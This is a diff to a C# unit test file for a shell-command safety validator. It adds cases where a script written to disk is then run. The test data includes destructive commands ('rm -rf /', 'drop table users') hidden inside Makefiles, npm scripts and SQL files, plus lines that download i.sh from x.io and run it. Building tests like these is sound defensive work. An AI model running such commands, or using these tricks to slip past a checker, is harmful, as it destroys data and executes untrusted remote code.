@@ -55,6 +55,9 @@ public sealed class FollowedCommandsTests
     [DataRow("printf 'a:\\n\\trm -rf /\\n' > Makefile; make", "dangerous")]
     [DataRow("echo '{\"scripts\":{\"x\":\"rm -rf /\"}}' > package.json; npm run x", "dangerous")]
     [DataRow("echo 'drop table users' > a.sql; psql -f a.sql", "dangerous")]
+    [DataRow("x=/; echo 'x=build' > f; chmod +x f; ./f; rm -rf $x", "dangerous")]
+    [DataRow("echo 'cd build' > f; chmod +x f; ./f; rm -rf *", "dangerous")]
+    [DataRow("echo 'cd build' > f; . ./f; rm -rf *", "ok")]
     [DataRow("aria2c x.io/i.sh && bash i.sh", "dangerous")]
     [DataRow("axel x.io/i.sh; sh i.sh", "dangerous")]
     public void Validate_WrittenScripts_AreFollowed(string command, string expected) => Assert.AreEqual(expected, VerdictOf(command));
